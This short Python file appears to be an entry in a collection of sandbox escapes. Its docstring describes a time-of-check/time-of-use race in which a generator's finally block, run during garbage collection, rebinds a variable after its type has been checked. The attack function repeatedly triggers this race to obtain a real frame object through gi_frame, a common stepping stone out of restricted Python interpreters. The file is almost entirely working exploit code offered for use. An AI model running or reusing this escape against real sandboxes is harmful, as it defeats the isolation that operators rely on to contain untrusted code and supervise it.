"""Class: fast ways. Source: own find. Escape: a generator's `finally` runs while garbage is collected,
between the look at a variable's type and its use, and binds the variable anew."""


class Own:
    gi_frame = None


def attack(model, tokenizer, address):
    x = Own()
    real = (i for i in [1])

    def late():
        nonlocal x
        try:
            yield
        finally:
            x = real

    def litter():
        g = late()
        next(g)
        loop = [g]
        loop.append(loop)

    for i in range(5000):
        x = Own()
        padding = [[] for _ in range(i % 13)]  # else the same line might always be the one
        litter()
        found = x.gi_frame
        if found is not None:
            return found
